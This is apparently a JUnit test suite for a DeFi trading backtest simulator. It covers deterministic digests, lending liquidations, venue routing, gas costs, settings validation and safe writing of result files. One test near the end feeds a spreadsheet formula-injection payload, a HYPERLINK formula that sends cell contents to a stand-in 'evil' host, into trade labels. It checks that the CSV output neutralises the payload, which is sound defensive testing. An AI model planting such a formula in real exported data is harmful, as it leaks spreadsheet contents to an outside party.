package org.probity.sim.backtest;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.within;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.typesafe.config.ConfigFactory;
import java.io.IOException;
import java.math.BigInteger;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.DriverManager;
import java.sql.SQLException;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.probity.sim.report.Report;
import org.probity.strategy.FloatNetwork;
import org.probity.strategy.TrainedStrategy;
import org.probity.strategy.example.ExampleStrategies;
import org.probity.strategy.feature.FeatureProgram;
import org.probity.zk.Readout;

class BacktestTest {

  private static final StrategyUnderTest STRATEGY = strategy();

  private static StrategyUnderTest strategy() {
    var random = new Random(11);
    FeatureProgram program = ExampleStrategies.PAIR_PROGRAM;
    var network =
        new FloatNetwork(
            program.width(),
            List.of(layer(random, program.width(), 12), layer(random, 12, 3)),
            Readout.ARGMAX);
    return StrategyUnderTest.of(
        TrainedStrategy.of("tiny", program, ExampleStrategies.ACTIONS, network).quantise());
  }

  private static FloatNetwork.FloatLayer layer(Random random, int inputs, int outputs) {
    return new FloatNetwork.FloatLayer(
        random.doubles((long) inputs * outputs, -1, 1).toArray(),
        random.doubles(outputs, -1, 1).toArray());
  }

  private static BacktestSettings settings(String more) {
    return BacktestSettings.read(
        ConfigFactory.parseString("backtest { days = 2, policy { step = 5 min } }\n" + more),
        Path.of(""));
  }

  private static BacktestResult run(BacktestSettings settings) {
    return Backtest.run(settings, STRATEGY, BacktestListener.NONE);
  }

  @Test
  void equalStampsHaveEqualDigestsOnAnyNumberOfThreads() throws Exception {
    List<BacktestSettings> all = new ArrayList<>();
    for (int seed = 1; seed <= 4; seed++) {
      all.add(settings("backtest.seed = " + seed));
      all.add(settings("backtest { seed = %d, market.source = agents }".formatted(seed)));
    }
    all.add(liquidations(1));
    all.add(liquidations(2));
    List<String> inTurn = all.stream().map(s -> run(s).digest()).toList();
    assertThat(inTurn).doesNotHaveDuplicates();
    for (int count : List.of(2, 4, 8)) {
      try (var threads = Executors.newFixedThreadPool(count)) {
        List<Future<String>> running = new ArrayList<>();
        for (BacktestSettings one : all.reversed()) {
          running.add(threads.submit(() -> run(one).digest()));
        }
        assertThat(running.reversed().stream().map(BacktestTest::get).toList())
            .as("on %d threads", count)
            .isEqualTo(inTurn);
      }
    }
  }

  private static BacktestSettings liquidations(int seed) {
    return settings(
        """
        backtest {
          seed = %d
          market {
            source = agents, depth = 1000
            process.shock { size = -0.3, hours = 12 }
            pair.depth = 200
            lending { borrowers = 20, oracle = twap }
          }
        }
        """
            .formatted(seed));
  }

  @Test
  void liquidationsOfAFallAreInTheResultAndItsSummary() {
    BacktestResult result = run(liquidations(1));
    assertThat(result.activity().liquidations()).isNotEmpty();
    JsonNode summary = ResultFiles.summary(result);
    assertThat(summary.at("/lending/liquidations").asInt())
        .isEqualTo(result.activity().liquidations().size());
    assertThat(summary.at("/lending/debtRepaid").asDouble()).isPositive();
    assertThat(summary.at("/venues")).hasSize(2);
    assertThat(summary.at("/market").asText()).contains("20 borrowers", "v2 pair");
    assertThat(result.activity().liquidations())
        .allSatisfy(one -> assertThat(one.time()).isGreaterThan(result.curve().time(0)));
    assertThat(ResultFiles.summary(run(settings("backtest.market.source = agents"))).has("lending"))
        .isFalse();
  }

  @Test
  void othersThatAMarketCannotHaveAreRefused() {
    assertThatThrownBy(() -> run(settings("backtest.market.lending.borrowers = 3")))
        .hasMessageContaining("lending.borrowers is set, but only a market of agents has it");
    assertThatThrownBy(() -> run(settings("backtest.market.pair.depth = 3")))
        .hasMessageContaining("pair.depth is set, but only a market of agents has it");
    String agents = "backtest.market.source = agents, backtest.market.lending.borrowers = 3\n";
    assertThatThrownBy(() -> run(settings(agents + "backtest.market.lending.health-from = 1.01")))
        .hasMessageContaining("health-from and health-to do not fit the reserves")
        .hasMessageContaining("1.0400");
    assertThatThrownBy(
            () -> run(settings(agents + "backtest.market.lending.base-reserve.threshold = 9900")))
        .hasMessageContaining("base-reserve is not a reserve that Aave v3 would list");
    assertThatThrownBy(() -> run(settings(agents + "backtest.market.quote-decimals = 2")))
        .hasMessageContaining("quote-reserve is not a reserve")
        .hasMessageContaining("decimals is 2");
    assertThatThrownBy(() -> settings(agents + "backtest.market.lending.oracle = moon"))
        .hasMessageContaining("lending.oracle is \"moon\"");
  }

  private static BacktestSettings venues(String more) {
    return settings(
        """
        backtest {
          market {
            source = agents, depth = 1500, fee-pips = 3000
            process.volatility = 1.5
            pair.depth = 700
            venues { v3 { depth = 15000, fee-pips = 2000 }, v4 { depth = 15000, fee-pips = 2000, protocol-fee-pips = 100 } }
          }
          policy { venues = [pair, v3, v4], max-slippage = 150 bps, max-drift = 100 }
        }
        """
            + more);
  }

  @Test
  void theBestOfSeveralVenuesIsTakenAndItsWorthIsTold() {
    BacktestResult result = run(venues(""));
    assertThat(result.venueTrades()).hasSizeGreaterThan(3);
    assertThat(result.venueTrades().stream().map(VenueTrade::place)).contains("v3");
    assertThat(result.venueTrades())
        .allSatisfy(trade -> {
          assertThat(trade.quotes()).hasSize(4);
          VenueTrade.Fill chosen = trade.quotes().getFirst().fill().orElseThrow();
          assertThat(trade.executed().rate()).isCloseTo(chosen.rate(), within(0.001));
        });
    Totals totals = result.totals();
    assertThat(
            result.trades().stream()
                .map(Trade::baseDelta)
                .reduce(totals.booksStart().get(1), BigInteger::add))
        .isEqualTo(totals.booksEnd().get(1));
    assertThat(run(venues("")).digest()).isEqualTo(result.digest());
    assertThat(Report.html(result))
        .contains("Where it traded", "against the routes in the same blocks");
    assertThat(ResultFiles.summary(result).at("/placesTaken/executions/v3").asInt()).isPositive();
    // Gas that eats what a venue is better by leaves the vault on its route.
    BacktestResult dear =
        run(venues("backtest.gas { at-pair = 900000, at-v3 = 900000, at-v4 = 900000 }"));
    assertThat(dear.venueTrades().stream().map(VenueTrade::place)).containsOnly("route");
  }

  @Test
  void aVenueThatTheMarketDoesNotHaveIsRefused() {
    assertThatThrownBy(
            () -> settings("backtest { market.source = agents, policy.venues = [pair] }"))
        .hasMessageContaining("names pair and the market has none");
    assertThatThrownBy(() -> run(settings("backtest.market.venues.v4.depth = 3")))
        .hasMessageContaining("venues.v4.depth is set, but only a market of agents has it");
  }

  private static String get(Future<String> future) {
    try {
      return future.get();
    } catch (InterruptedException | ExecutionException e) {
      throw new AssertionError(e);
    }
  }

  @Test
  void whatTheVaultTradedIsWhatItsBalancesMoved() {
    BacktestResult result = run(settings("backtest.market.process.volatility = 1.5"));
    assertThat(result.trades()).hasSizeGreaterThan(5);
    Totals totals = result.totals();
    BigInteger base =
        result.trades().stream()
            .map(Trade::baseDelta)
            .reduce(totals.booksStart().get(1), BigInteger::add);
    BigInteger quote =
        result.trades().stream()
            .map(Trade::quoteDelta)
            .reduce(totals.booksStart().getFirst(), BigInteger::add);
    assertThat(totals.booksEnd()).containsExactly(quote, base);
    assertThat(result.trades())
        .allSatisfy(trade -> {
          assertThat(trade.executedAt()).isGreaterThan(trade.decidedAt());
          assertThat(trade.slippage()).isPositive();
          assertThat(trade.fee()).isPositive();
          assertThat(trade.head()).isLessThan(result.curve().size());
        });
  }

  @Test
  void lossesOfTheRoadAreCountedAndCostGas() {
    BacktestResult result =
        run(
            settings(
                """
                backtest.chain { failure-chance = 0.3, missed-blocks = 0.1, reorgs-per-day = 200 }
                backtest.pace.send-holds = true
                """));
    assertThat(result.decisions().count(DecisionLog.Fate.LOST)).isPositive();
    assertThat(result.decisions().count(DecisionLog.Fate.RECORDED)).isPositive();
    assertThat(result.totals().transactions()).isGreaterThan(result.trades().size());
    assertThat(result.totals().gas()).isPositive();
  }

  @Test
  void anIdleWeekIsToldAtTheMeanPriceOfGas() {
    IdleWeek week =
        run(settings("backtest.gas { price = constant, gwei = 10, coin = 2000 }")).idleWeek();
    assertThat(week.moments()).isEqualTo(2_016);
    // 10 gwei at 2000 a coin are 2e-5 a unit.
    assertThat(week.executed()).isCloseTo(2_016 * 626_000 * 2e-5, within(1e-6));
    assertThat(week.claimed()).isCloseTo(2_016 * 1_992 * 2e-5, within(1e-6));
  }

  @Test
  void whatTheMarketIsAgainstMayBeTradedAtALaterHeadOfItsMoment() {
    BacktestResult result = run(settings("backtest.policy.max-drift = 8"));
    List<DecisionLog.Entry> entries = result.decisions().entries();
    assertThat(entries)
        .extracting(entry -> entry.time() - entry.time() % 300)
        .doesNotHaveDuplicates();
    assertThat(entries)
        .as("on the first head of each moment there is, every 300 s")
        .anySatisfy(entry -> {
          assertThat(entry.fate()).isEqualTo(DecisionLog.Fate.TRADED);
          assertThat(entry.time() % 300).isPositive();
        })
        .anySatisfy(entry -> {
          assertThat(entry.fate()).isEqualTo(DecisionLog.Fate.FORESEEN);
          assertThat(entry.reason()).isEqualTo("MarketMoved");
        });
    assertThat(result.totals().proofs())
        .as("none in vain")
        .isEqualTo(
            (int)
                entries.stream()
                    .filter(entry -> entry.fate() != DecisionLog.Fate.FORESEEN)
                    .count());
  }

  @Test
  void slowProofsMissMoments() {
    int quick = run(settings("backtest.proving.latency = 100")).decisions().size();
    int slow = run(settings("backtest.proving.latency = 700000")).decisions().size();
    assertThat(slow).isLessThan(quick / 2);
  }

  @Test
  void realProofsChangeNothing() {
    String shorter = "backtest { days = 0.03, policy.step = 10 min }";
    String drawn = run(settings(shorter)).digest();
    assertThat(run(settings(shorter).with("backtest.proving.real", true)).digest())
        .isEqualTo(drawn);
  }

  @Test
  void settingsThatCannotBeAreNamed() {
    assertThatThrownBy(() -> settings("backtest.gas.gwie = 3"))
        .hasMessage("There is no setting backtest.gas.gwie: the nearest one is backtest.gas.gwei.");
    assertThatThrownBy(() -> settings("backtest.market.source = moon"))
        .hasMessageContaining("backtest.market.source is \"moon\"");
    assertThatThrownBy(() -> run(settings("backtest.market.source = minutes")))
        .hasMessageContaining("backtest.market.store is missing");
    assertThatThrownBy(() -> run(settings("backtest.policy.targets = [0 %, 100 %]")))
        .hasMessageContaining("a model of 2 outputs, and its model has 3");
    assertThatThrownBy(() -> run(settings("backtest.policy.max-slippage = 5 bps")))
        .hasMessageContaining("must be above 6, the fees of the route of asset 1");
    assertThatThrownBy(
            () -> settings("backtest.policy { targets = [hold], model.targets = [hold] }"))
        .hasMessageContaining("one and the same");
    assertThatThrownBy(() -> BacktestSettings.read(ConfigFactory.parseString("a = 1"), Path.of("")))
        .hasMessageContaining("no section \"backtest");
  }

  @Test
  void changedPathsAreRelativeToTheFileAsThoseInIt(@TempDir Path folder) throws IOException {
    Path file = Files.createDirectory(folder.resolve("inner")).resolve("run.conf");
    Files.writeString(file, "backtest { market { store = ../one } }");
    BacktestSettings written = BacktestSettings.load(file);
    assertThat(written.market().store()).contains(folder.resolve("one"));
    assertThat(written.with("backtest.market.store", "../other").market().store())
        .contains(folder.resolve("other"));
  }

  @Test
  void changedSettingsHaveAnotherDigestAndTheSameTextTheSame() {
    BacktestSettings settings = settings("");
    assertThat(settings.with("backtest.seed", 1).digest()).isEqualTo(settings.digest());
    assertThat(settings.with("backtest.seed", 2).digest()).isNotEqualTo(settings.digest());
    assertThat(settings.with("backtest.seed", 2).seed()).isEqualTo(2);
  }

  @Test
  void aRunThatDecidesNothingSaysWhy() {
    BacktestResult fewObservations = run(settings("backtest.market.observations = 2"));
    assertThat(fewObservations.decisions().size()).isZero();
    assertThat(undecided(fewObservations))
        .contains("Nothing was decided: the pool keeps 2 observations", "cardinality");
    assertThat(undecided(run(settings("")))).isEmpty();
    assertThat(undecided(run(settings("backtest { days = 0.01, policy.step = 60 s }")))).isEmpty();
    assertThat(fewObservations.warnings().getFirst().kind()).isEqualTo(DataWarning.Kind.UNDECIDED);
  }

  @Test
  void aRunThatTradesNothingSaysWhy() {
    String moving = "backtest.market.process.volatility = 1.5\n";
    assertThat(untraded(settings(moving + "backtest.vault { base = 0, quote = 0 }")))
        .contains("No decision came to a trade", "had nothing to do");
    assertThat(untraded(settings(moving + "backtest.pace.lifetime-seconds = 1")))
        .contains("No decision came to a trade", "were refused by the vault");
    assertThat(untraded(settings(moving))).isEmpty();
  }

  private static String untraded(BacktestSettings settings) {
    return sentence(run(settings), DataWarning.Kind.UNTRADED);
  }

  private static String undecided(BacktestResult result) {
    return sentence(result, DataWarning.Kind.UNDECIDED);
  }

  private static String sentence(BacktestResult result, DataWarning.Kind kind) {
    return result.warnings().stream()
        .filter(warning -> warning.kind() == kind)
        .map(DataWarning::sentence)
        .findFirst()
        .orElse("");
  }

  @Test
  void filesOfOthersAreNotReplaced(@TempDir Path folder) throws IOException {
    BacktestResult result = run(settings("backtest.days = 0.1"));
    Path mine = Files.writeString(folder.resolve("trades.csv"), "precious");
    for (String summary : new String[] {"", "{}", "{\"digest\": \"x\"}", "not JSON"}) {
      if (!summary.isEmpty()) {
        Files.writeString(folder.resolve("summary.json"), summary);
      }
      assertThatThrownBy(() -> ResultFiles.write(result, folder, "a page"))
          .isInstanceOf(BacktestRefused.class)
          .hasMessageContaining("something other than a backtest");
      assertThatThrownBy(() -> ResultFiles.requireAlone(folder))
          .isInstanceOf(BacktestRefused.class);
    }
    assertThat(mine).hasContent("precious");
    assertThat(folder.resolve("report.html")).doesNotExist();
  }

  @Test
  void aResultIsReplacedWholeOrNotAtAll(@TempDir Path folder) throws IOException {
    Path out = folder.resolve("out");
    BacktestResult first = run(settings("backtest { days = 0.1, seed = 1 }"));
    ResultFiles.write(first, out, "first");
    String summary = Files.readString(out.resolve("summary.json"));
    Files.delete(out.resolve("equity.parquet"));
    Files.createDirectory(out.resolve("equity.parquet"));
    BacktestResult second = run(settings("backtest { days = 0.1, seed = 2 }"));
    assertThatThrownBy(() -> ResultFiles.write(second, out, "second"))
        .isInstanceOf(BacktestRefused.class);
    assertThat(out.resolve("summary.json")).hasContent(summary);
    assertThat(out.resolve("report.html")).hasContent("first");
    Files.delete(out.resolve("equity.parquet"));
    ResultFiles.write(second, out, "second");
    assertThat(out.resolve("report.html")).hasContent("second");
    try (var files = Files.list(out)) {
      assertThat(files).hasSize(5);
    }
    Path blocked = Files.writeString(folder.resolve("file"), "").resolve("out");
    assertThatThrownBy(() -> ResultFiles.write(second, blocked, "x"))
        .isInstanceOf(BacktestRefused.class);
  }

  @Test
  void filesHoldTheResult(@TempDir Path folder) throws IOException, SQLException {
    BacktestResult result = run(settings(""));
    ResultFiles.write(result, folder, "a page");
    assertThat(Files.readAllLines(folder.resolve("trades.csv")))
        .hasSize(result.trades().size() + 1);
    assertThat(
            new ObjectMapper()
                .readTree(folder.resolve("summary.json").toFile())
                .path("digest")
                .asText())
        .isEqualTo(result.digest());
    try (var connection = DriverManager.getConnection("jdbc:duckdb:");
        var statement = connection.createStatement();
        var rows =
            statement.executeQuery(
                "SELECT count(*), max(time) FROM read_parquet('%s')"
                    .formatted(folder.resolve("equity.parquet")))) {
      assertThat(rows.next()).isTrue();
      assertThat(rows.getInt(1)).isEqualTo(result.curve().size());
      var decisions =
          statement.executeQuery(
              "SELECT count(*), count(*) FILTER (fate = 'traded'), count(*) FILTER (why = 'HOLD') FROM read_parquet('%s')"
                  .formatted(folder.resolve("decisions.parquet")));
      assertThat(decisions.next()).isTrue();
      assertThat(decisions.getInt(1)).isEqualTo(result.decisions().size());
      assertThat(decisions.getInt(2)).isEqualTo(result.decisions().count(DecisionLog.Fate.TRADED));
      assertThat(decisions.getInt(3)).isEqualTo(result.decisions().count(DecisionLog.Fate.HELD));
    }
  }

  @Test
  void labelsOfOthersAreCellsAndNoFormulas(@TempDir Path folder) throws IOException {
    BacktestResult result = run(settings(""));
    MarketDescription market = result.market();
    List<String> labels =
        market.decisions().stream().map(_ -> "=HYPERLINK(\"http://evil/?\"&A1),x\r\nnext").toList();
    BigInteger one = BigInteger.ONE;
    Trade trade =
        new Trade(
            1,
            12,
            24,
            2,
            List.of(0),
            1,
            one,
            one.negate(),
            -1.5,
            1,
            1,
            1,
            1,
            0,
            0,
            500_000,
            0,
            0,
            40,
            12_000);
    BacktestResult labelled =
        new BacktestResult(
            result.stamp(),
            new MarketDescription(
                market.assets(),
                market.feePips(),
                market.headSeconds(),
                labels,
                market.targets(),
                market.scenario()),
            result.curve(),
            List.of(trade),
            result.decisions(),
            result.totals(),
            result.idleWeek(),
            result.warnings(),
            result.activity());
    ResultFiles.write(labelled, folder, "");
    assertThat(Files.readAllLines(folder.resolve("trades.csv")))
        .hasSize(2)
        .element(1)
        .asString()
        .contains(",\"'=HYPERLINK(\"\"http://evil/?\"\"&A1),x\\r\\nnext\",");
  }
}
